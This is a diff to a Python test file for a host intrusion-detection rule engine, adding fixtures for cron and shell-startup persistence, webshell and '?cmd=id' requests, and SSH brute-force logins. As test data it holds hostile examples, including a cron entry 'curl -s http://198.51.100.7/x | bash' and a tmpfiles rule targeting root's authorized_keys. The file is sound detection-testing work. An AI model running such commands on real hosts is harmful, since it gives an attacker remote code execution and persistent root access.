@@ -81,6 +81,15 @@ def rare(kind, hosts_with, hosts_of=6):
                        "tbl": "files", "source_row": 7}]}
 
 
+def event(kind, message, **facts):
+    return {"member": "[root]/var/log/x", "path": "/var/log/x", "line": 7, "time": NEW, "kind": kind, "address": "198.51.100.7",
+            "message": message, "n": 1, **facts}
+
+
+def logged(kind, message):
+    return {"log_events": [event(kind, message)]}
+
+
 def child_of(parent, child):
     return {**processes({"pid": 10, "comm": "apache2", "uids": ["33"] * 4, **parent}, {"pid": 11, "ppid": 10, "uids": ["33"] * 4, **child}),
             **user(user="www-data", uid=33)}
@@ -281,7 +290,13 @@ CASES = {
     "persistence-in-drop-zone": (
         starts({"mechanism": "cron", "command": "/dev/shm/.x/run", "executable": "/dev/shm/.x/run"}),
         starts({"mechanism": "cron", "command": "find /tmp -mtime +7 -delete", "executable": "/usr/bin/find"},
-               {"mechanism": "systemd_service", "command": "/usr/bin/x --socket /tmp/x.sock", "executable": "/usr/bin/x"}),
+               {"mechanism": "systemd_service", "command": "/usr/bin/x --socket /tmp/x.sock", "executable": "/usr/bin/x"},
+               {"mechanism": "tmpfiles", "command": "f^ /root/.ssh/authorized_keys", "executable": "/root/.ssh/authorized_keys"}),
+    ),
+    "startup-file-of-drop-zone": (
+        starts({"mechanism": "shell_startup", "path": "/root/.bashrc", "executable": "/tmp/.env"}),
+        starts({"mechanism": "shell_startup", "path": "/root/.bashrc", "executable": "/root/.cargo/env"},
+               {"mechanism": "cron", "executable": "/tmp/x"}),
     ),
     "persistence-evil-command": (
         starts({"mechanism": "cron", "command": "curl -s http://198.51.100.7/x | bash", "executable": "/usr/bin/curl"}),
@@ -384,6 +399,14 @@ CASES = {
         processes({"exe": "/usr/bin/bash", "uids": ["0"] * 4, "cap_effective": "000001ffffffffff"},
                   {"exe": "/usr/bin/bash", "uids": ["1000"] * 4, "cap_effective": "0000000000000400"}),
     ),
+    "webshell-requested": (logged("web_suspect_script", '"POST /x.php HTTP/1.1" 200 5'), logged("web_request", '"GET / HTTP/1.1" 200 5')),
+    "web-command-output": (logged("web_command_output", "sh: 1: wgett: not found"), logged("web_error", "File does not exist")),
+    "web-attack-answered": (logged("web_command", '"GET /?cmd=id HTTP/1.1" 200 5'), logged("web_command", '"GET /?cmd=id HTTP/1.1" 404 5')),
+    "guessed-ssh-password": (
+        {"log_events": [event("ssh_failed", "Failed password", n=50, time=OLD), event("ssh_login", "Accepted password for root")]},
+        {"log_events": [event("ssh_failed", "Failed password", n=3, time=OLD), event("ssh_login", "Accepted password for root"),
+                        event("ssh_login", "Accepted publickey for root")]},
+    ),
     **{f"rare-{kind.replace('_', '-')}": (rare(kind, 1), {"stack": rare(kind, 2)["stack"] + rare(kind, 1, 2)["stack"]}) for kind in (
         "authorized_key", "user", "suid", "kernel_module", "cron", "unit", "persistence", "executable", "listener", "package_file")},
 }
@@ -419,5 +442,5 @@ def test_rule(name, rules, case):
     assert {row["host"] for row in findings} == {"bad"}
     for row in findings:
         assert row["summary"] and row["subject"]
-        assert all(one.get("table") for one in json.loads(row["evidence"]))
+        assert all(one.get("table") or one.get("member") for one in json.loads(row["evidence"]))
         assert json.loads(row["evidence"])
